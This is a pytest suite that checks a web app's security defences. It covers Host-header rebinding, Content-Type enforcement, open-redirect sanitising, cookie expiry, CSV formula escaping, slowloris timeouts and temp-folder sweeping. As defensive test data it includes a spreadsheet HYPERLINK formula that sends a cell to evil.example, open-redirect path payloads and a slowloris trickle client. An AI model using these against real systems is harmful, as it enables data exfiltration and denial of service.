"""The server's defences, each measured from outside: the Host header (DNS rebinding), the Content-Type of every
POST, redirects that stay on the site, a session cookie that expires and dies with the process, a CSV that no
spreadsheet reads as formulas, the header timeout (slowloris), the sweep of stale PDF folders, and a dropped
upload that prints nothing. Starlette's TestClient where it is enough, a real ``clausegen serve`` otherwise."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from clausegen.cli.serve import HEADER_BYTES, HEADER_SECONDS, STALE_PDF_SECONDS, sweep_stale_pdf_folders
from clausegen.web import create_app, security, work
from clausegen.web.work import PDF_FOLDER_PREFIX

from conftest import BASE

ROOT = Path(__file__).resolve().parents[1]
PORTFOLIO = ROOT / "tests" / "data" / "portfolio"
YAML = {"content-type": "application/yaml"}
TOKEN = "jeton-de-test-0123456789"


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf" value="([0-9a-f]+)"', html).group(1)


# -- 1. Host header (DNS rebinding) ---------------------------------------------------------------------


def test_allowed_hosts_follow_the_bind_address():
    local = security.allowed_hosts_for("127.0.0.1", 8000)
    assert local == ["127.0.0.1:8000", "localhost:8000", "[::1]:8000"]
    assert security.allowed_hosts_for("::1", 8000) == local
    assert security.allowed_hosts_for("localhost", 8000, ["poste.local"]) == [*local, "poste.local:8000", "poste.local"]
    assert security.allowed_hosts_for("127.0.0.1", 80) == ["127.0.0.1:80", "127.0.0.1", "localhost:80", "localhost", "[::1]:80", "[::1]"]
    # a given address: that address and the names given (its own port kept when written)
    assert security.allowed_hosts_for("192.168.1.5", 8080, ["Serveur.Mairie.fr", "alias:9000", "fd00::9"]) == [
        "192.168.1.5:8080", "serveur.mairie.fr:8080", "serveur.mairie.fr", "alias:9000", "[fd00::9]:8080", "[fd00::9]"]
    assert security.allowed_hosts_for("fd00::5", 8080) == ["[fd00::5]:8080"]
    # every address without a name: no check (the token, mandatory there, protects the application)
    assert security.allowed_hosts_for("0.0.0.0", 8080) is None
    assert security.allowed_hosts_for("0.0.0.0", 8080, ["serveur"]) == [*security.allowed_hosts_for("127.0.0.1", 8080), "serveur:8080", "serveur"]


def test_host_header_is_checked_when_hosts_are_given():
    app = create_app(allowed_hosts=security.allowed_hosts_for("127.0.0.1", 8000))
    client = TestClient(app, base_url="http://127.0.0.1:8000")
    for host in ("127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST:8000"):
        assert client.get("/", headers={"host": host}).status_code == 200, host
    for host in ("evil.example:8000", "evil.example", "127.0.0.1", "127.0.0.1:8001", "localhost.evil.example:8000", "[::1]", ""):
        page = client.get("/", headers={"host": host})
        assert page.status_code == 400, host
        assert "Adresse non reconnue (en-tête Host) : ouvrez l'application à l'adresse http://127.0.0.1:8000/." in html.unescape(page.text)
        assert page.headers["content-type"].startswith("text/html")
    api = client.post("/api/calc", content=BASE.encode(), headers={**YAML, "host": "rebind.evil.example:8000"})
    assert api.status_code == 400
    assert api.json() == {"erreur": "Adresse non reconnue (en-tête Host) : ouvrez l'application à l'adresse http://127.0.0.1:8000/."}
    assert client.post("/api/calc", content=BASE.encode(), headers=YAML).json()["total_heures"] == 744
    # None: no check (the tests' client says « testserver »)
    assert TestClient(create_app()).get("/").status_code == 200


# -- 2. Content-Type required on every POST -------------------------------------------------------------


@pytest.fixture(scope="module")
def client():
    with TestClient(create_app()) as c:
        yield c


@pytest.mark.parametrize("route", ["/api/calc", "/api/check", "/api/pack"])
def test_api_takes_yaml_only(client, route):
    missing = client.post(route, content=BASE.encode())
    assert missing.status_code == 415
    assert missing.json() == {"erreur": "Le profil doit être envoyé en YAML, avec l'en-tête « Content-Type: application/yaml » (en-tête absent)."}
    for other in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json"):
        refused = client.post(route, content=BASE.encode(), headers={"content-type": other})
        assert refused.status_code == 415, other
        assert f"(reçu : « {other.split(';')[0]} »)" in refused.json()["erreur"]


def test_api_accepts_each_yaml_type(client):
    for kind in ("application/yaml", "application/x-yaml", "text/yaml", "text/x-yaml", "Application/YAML; charset=utf-8"):
        response = client.post("/api/calc", content=BASE.encode(), headers={"content-type": kind})
        assert response.status_code == 200, kind
        assert response.json()["total_heures"] == 744


@pytest.mark.parametrize("route", ["/profil", "/ouvrir", "/revue", "/revue/rapport"])
def test_forms_take_a_browser_form_only(client, route):
    missing = client.post(route, content=b"csrf=x&action=calculer")
    assert missing.status_code == 415
    assert "Type de contenu non admis" in missing.text and "(Content-Type « application/x-www-form-urlencoded » ou « multipart/form-data » ; en-tête absent)" in missing.text
    assert missing.headers["content-type"].startswith("text/html")
    for other in ("text/plain", "application/json", "application/yaml"):
        refused = client.post(route, content=b"csrf=x", headers={"content-type": other})
        assert refused.status_code == 415 and f"reçu : « {other} »" in refused.text, other
    # the browser's two types pass this check, and meet the CSRF one (403)
    assert client.post(route, data={"action": "calculer"}).status_code == 403
    multipart = b'--B\r\nContent-Disposition: form-data; name="action"\r\n\r\ncalculer\r\n--B--\r\n'
    assert client.post(route, content=multipart, headers={"content-type": "multipart/form-data; boundary=B"}).status_code == 403


def test_a_form_still_works(client):
    page = client.get("/profil").text
    response = client.post("/profil", data={"csrf": csrf_of(page), "action": "calculer"})
    assert response.status_code == 200


def test_token_comes_before_the_content_type():
    client = TestClient(create_app(TOKEN))
    assert client.post("/api/calc", content=BASE.encode()).status_code == 401


# -- 3. Redirects stay on the site ----------------------------------------------------------------------


@pytest.mark.parametrize("path, expected", [
    ("//evil.example/", "/evil.example/"),
    ("/\\evil.example/", "/evil.example/"),
    ("/%5C%5Cevil.example/", "/evil.example/"),
    ("/%09/evil.example/", "/evil.example/"),
    ("///evil.example/revue", "/evil.example/revue"),
    ("/revue", "/revue"),
])
def test_token_redirect_stays_on_the_site(path, expected):
    client = TestClient(create_app(TOKEN))
    login = client.get(f"http://testserver{path}?jeton={TOKEN}&x=1", follow_redirects=False)
    assert login.status_code == 303
    assert login.headers["location"] == f"{expected}?x=1"


def test_local_location():
    assert security.local_location("//evil.example/", "a=1") == "/evil.example/?a=1"
    assert security.local_location("http://evil.example/") == "/"  # an absolute URL: when in doubt, the home page
    assert security.local_location("") == "/"
    assert security.local_location("/\r\n/evil.example") == "/evil.example"
    assert security.local_location("/revue/a b\"<>") == "/revue/a%20b%22%3C%3E"
    assert security.local_location("/é") == "/%C3%A9"


def test_login_form_of_a_crafted_path_stays_on_the_site():
    client = TestClient(create_app(TOKEN))
    page = client.get("http://testserver//evil.example/")
    assert page.status_code == 401
    assert 'action="/evil.example/"' in page.text and "//evil" not in page.text


# -- 4. Session cookie: an expiry, and a new one after a restart ----------------------------------------


def _login(client: TestClient) -> str:
    login = client.get(f"/?jeton={TOKEN}", follow_redirects=False)
    assert login.status_code == 303
    return login.headers["set-cookie"]


def test_session_cookie_expires():
    client = TestClient(create_app(TOKEN))
    now = [1_800_000_000.0]
    client.app.state.secrets.clock = lambda: now[0]
    cookie = _login(client)
    assert f"Max-Age={security.SESSION_MAX_AGE}" in cookie and security.SESSION_MAX_AGE == 12 * 3600
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and TOKEN not in cookie
    assert client.get("/").status_code == 200
    now[0] += security.SESSION_MAX_AGE - 1
    assert client.get("/").status_code == 200
    now[0] += 1  # kept by a browser past its Max-Age, refused by the server all the same
    page = client.get("/")
    assert page.status_code == 401 and "Accès protégé" in page.text and 'name="jeton"' in page.text


def test_session_cookie_changes_with_each_process():
    first, second = TestClient(create_app(TOKEN)), TestClient(create_app(TOKEN))
    _login(first)
    _login(second)
    old, new = first.cookies.get(security.TOKEN_COOKIE), second.cookies.get(security.TOKEN_COOKIE)
    assert old and new and old.split(".")[1] != new.split(".")[1]
    restarted = TestClient(create_app(TOKEN))  # the same token, a new process: the old cookie asks for the token again
    restarted.cookies.set(security.TOKEN_COOKIE, old)
    page = restarted.get("/profil")
    assert page.status_code == 401
    assert "Accès protégé" in page.text and "Cette application demande un jeton d'accès." in html.unescape(page.text)
    assert restarted.get("/api/schema").json() == {"erreur": "Cette application demande un jeton d'accès."}


@pytest.mark.parametrize("value", [b"", b"abc", b"1.2", b"x" * 500, "١٢٣.abc".encode(), "²³.abc".encode("latin-1"), b".", b"-5.00",
                                   b"99999999999999999999999.ab", "é.é".encode()])
def test_malformed_session_cookie_is_a_401(value):
    client = TestClient(create_app(TOKEN))
    page = client.get("/", headers={"cookie": b"clausegen_jeton=" + value})
    assert page.status_code == 401 and "Accès protégé" in page.text


# -- 5. CSV formula injection ---------------------------------------------------------------------------


def test_mutualisation_csv_cells_are_never_formulas():
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")'
    texts = {p.name: p.read_text(encoding="utf-8") for p in sorted(PORTFOLIO.glob("*.yaml"))}
    texts = {n: t.replace("nom: Bâtir Nord SAS", f"nom: '{hyperlink}'").replace("nom: Propreté & Services du Littoral", "nom: '-2+3'")
             for n, t in texts.items()}
    assert any(hyperlink in t for t in texts.values()) and any("'-2+3'" in t for t in texts.values())
    reviewed = work.review_many([(n, t.encode()) for n, t in texts.items()])
    assert all(r.outcome.ok for r in reviewed)
    text = work.mutualisation_csv(reviewed).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["Entreprise (SIRET)", "Marchés", "Heures dues", "Parcours séparés", "Parcours mutualisés", "Gain"]
    names = sorted(row[0] for row in rows[1:])
    assert names == ["'-2+3 (552 100 554 00013)", f"'{hyperlink} (732 829 320 00074)"]
    for row in rows[1:]:
        for cell in row[1:]:
            assert re.fullmatch(r"\+?[0-9][0-9 ]*", cell), cell  # the figures stay numbers
    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])

    import openpyxl  # the workbook of the same portfolio keeps such a name a text cell, never a formula

    book = openpyxl.load_workbook(io.BytesIO(work.report(reviewed, "xlsx", True)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_spreadsheet_cell():
    for dangerous in ("=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+3 entreprises"):
        assert work.spreadsheet_cell(dangerous) == "'" + dangerous
    for kept in ("Bâtir Nord SAS", "1 234", "12 345 678", "+3", "-2", "0", "12,5", "-1 234,5", "", "a=1", " =1"):
        assert work.spreadsheet_cell(kept) == kept


# -- 7. Stale PDF folders --------------------------------------------------------------------------------


def _aged(path: Path, seconds: float) -> Path:
    when = time.time() - seconds
    os.utime(path, (when, when), follow_symlinks=False)
    return path


def test_stale_pdf_folders_are_swept(tmp_path):
    temp = tmp_path / "tmp"
    temp.mkdir()
    outside = tmp_path / "ailleurs"
    outside.mkdir()
    (outside / "garder.txt").write_text("à garder")
    old = temp / f"{PDF_FOLDER_PREFIX}abc123"
    (old / "dossier").mkdir(parents=True)
    (old / "dossier" / "ccap.docx").write_bytes(b"PK")
    (old / "lien").symlink_to(outside)  # a link inside: removed as a link, its target untouched
    fresh = temp / f"{PDF_FOLDER_PREFIX}fresh"
    fresh.mkdir()
    _aged(fresh, STALE_PDF_SECONDS - 600)
    old_file = temp / f"{PDF_FOLDER_PREFIX}fichier"
    old_file.write_text("x")
    other_prefix = temp / "clausegen-pdfx-old"
    other_prefix.mkdir()
    other = temp / "autre-clausegen-pdf-old"
    other.mkdir()
    link = temp / f"{PDF_FOLDER_PREFIX}lien"
    link.symlink_to(outside, target_is_directory=True)
    for path in (old / "dossier", old, old_file, other_prefix, other, link):
        _aged(path, 2 * STALE_PDF_SECONDS)
    _aged(outside, 2 * STALE_PDF_SECONDS)

    assert sweep_stale_pdf_folders(str(temp)) == [old.name]
    assert not old.exists()
    assert fresh.is_dir() and old_file.is_file() and other_prefix.is_dir() and other.is_dir()
    assert link.is_symlink() and (outside / "garder.txt").read_text() == "à garder"
    assert sweep_stale_pdf_folders(str(temp)) == []
    assert sweep_stale_pdf_folders(str(tmp_path / "absent")) == []


# -- a real « clausegen serve »: Host, header timeout, dropped uploads, start-up sweep ------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


class Served:
    def __init__(self, tmp_path: Path, *args: str):
        self.port = _free_port()
        self.stderr_path = tmp_path / "stderr.txt"
        env = {**os.environ, "TMPDIR": str(tmp_path / "tmp"), "PYTHONUNBUFFERED": "1"}
        env.pop(security.TOKEN_ENV, None)
        self.tmp = tmp_path / "tmp"
        self.tmp.mkdir(exist_ok=True)
        self.stale = _aged(self._stale_folder(), 2 * STALE_PDF_SECONDS)
        with open(self.stderr_path, "wb") as err:
            self.proc = subprocess.Popen([sys.executable, "-m", "clausegen", "serve", "--port", str(self.port), "--sans-navigateur", *args],
                                         env=env, stdout=subprocess.DEVNULL, stderr=err, cwd=tmp_path)
        deadline = time.monotonic() + 60
        while True:
            assert self.proc.poll() is None, self.stderr()
            try:
                socket.create_connection(("127.0.0.1", self.port), timeout=1).close()
                break
            except OSError:
                assert time.monotonic() < deadline, "clausegen serve n'a pas démarré"
                time.sleep(0.1)

    def _stale_folder(self) -> Path:
        folder = self.tmp / f"{PDF_FOLDER_PREFIX}tue"
        folder.mkdir()
        (folder / "ccap.docx").write_bytes(b"PK")
        _aged(folder / "ccap.docx", 2 * STALE_PDF_SECONDS)
        return folder

    def stderr(self) -> str:
        return self.stderr_path.read_text(encoding="utf-8", errors="replace")

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port), timeout=60)

    def request(self, raw: bytes) -> bytes:
        with self.connect() as sock:
            sock.sendall(raw)
            return _read_all(sock)

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=30)


def _read_all(sock: socket.socket) -> bytes:
    data = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            return data
        if not chunk:
            return data
        data += chunk


@pytest.fixture
def served(tmp_path):
    server = Served(tmp_path)
    yield server
    server.stop()


@pytest.fixture
def served_with_name(tmp_path):
    server = Served(tmp_path, "--hote", "Poste.Local")
    yield server
    server.stop()


def test_serve_checks_the_host_and_sweeps_stale_folders(served_with_name):
    served = served_with_name
    port = served.port
    assert not served.stale.exists()  # swept at start-up
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", f"poste.local:{port}", "poste.local"):
        answer = served.request(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        assert answer.startswith(b"HTTP/1.1 200 "), host
    endless = served.request(f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Long: {'a' * 2 * HEADER_BYTES}".encode())
    assert endless.startswith(b"HTTP/1.1 400 ")  # unfinished headers past HEADER_BYTES: refused at once, connection closed
    refused = served.request(f"GET / HTTP/1.1\r\nHost: rebind.evil.example:{port}\r\nConnection: close\r\n\r\n".encode())
    assert refused.startswith(b"HTTP/1.1 400 ")
    assert f"ouvrez l'application à l'adresse http://127.0.0.1:{port}/".encode() in html.unescape(refused.decode("utf-8")).encode("utf-8")


def _closed_within(sock: socket.socket, seconds: float, trickle: bool = False) -> bool:
    """Whether the server closes ``sock`` within ``seconds`` (sending one more header byte each second if
    ``trickle``, as a slowloris client does to keep uvicorn's keep-alive timer off)."""
    deadline = time.monotonic() + seconds
    sock.settimeout(1)
    while time.monotonic() < deadline:
        try:
            if sock.recv(65536) == b"":
                return True
        except socket.timeout:
            pass
        except (ConnectionResetError, BrokenPipeError):
            return True
        if trickle:
            try:
                sock.sendall(b"a")
            except (ConnectionResetError, BrokenPipeError):
                return True
    return False


def test_serve_closes_a_request_whose_headers_never_end(served):
    assert HEADER_SECONDS <= 30
    results = {}

    def half_line():
        with served.connect() as sock:
            sock.sendall(f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nX-Lent: ".encode())
            results["half line"] = _closed_within(sock, 60)

    def trickle_after_an_answer():
        with served.connect() as sock:
            sock.sendall(f"GET /api/schema HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\n\r\n".encode())
            first = b""
            while b"\r\n\r\n" not in first:
                first += sock.recv(65536)
            assert first.startswith(b"HTTP/1.1 200 ")
            sock.sendall(b"GET / HTTP/1.1\r\nX-Lent: ")
            results["trickle"] = _closed_within(sock, 60, trickle=True)

    threads = [threading.Thread(target=half_line), threading.Thread(target=trickle_after_an_answer)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(90)
    assert results == {"half line": True, "trickle": True}
    answer = served.request(f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{served.port}\r\nConnection: close\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200 ")  # the server still answers


# -- 8. A dropped upload prints nothing -----------------------------------------------------------------


def test_a_dropped_upload_prints_no_traceback(served):
    host = f"127.0.0.1:{served.port}"
    multipart = (b"--LIMITE\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\nabc\r\n"
                 b"--LIMITE\r\nContent-Disposition: form-data; name=\"fichiers\"; filename=\"marche.yaml\"\r\n"
                 b"Content-Type: application/yaml\r\n\r\n" + BASE.encode()[:200])
    drops = [
        f"POST /revue HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary=LIMITE\r\n"
        f"Content-Length: 500000\r\n\r\n".encode() + multipart,
        f"POST /revue HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary=LIMITE\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n{len(multipart):x}\r\n".encode() + multipart + b"\r\n",
        f"POST /profil HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: 500000\r\n\r\ncsrf=abc&marche.objet=Travaux".encode(),
        f"POST /api/calc HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/yaml\r\n"
        f"Content-Length: 500000\r\n\r\n".encode() + BASE.encode()[:200],
    ]
    for raw in drops:
        with served.connect() as sock:
            sock.sendall(raw)
            sock.settimeout(0.5)
            try:
                assert sock.recv(100) == b""  # nothing answered before the body is complete
            except socket.timeout:
                pass
    answer = served.request(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    assert answer.startswith(b"HTTP/1.1 200 ")
    served.stop()
    assert "Traceback" not in served.stderr()
    assert served.stderr().strip() == ""
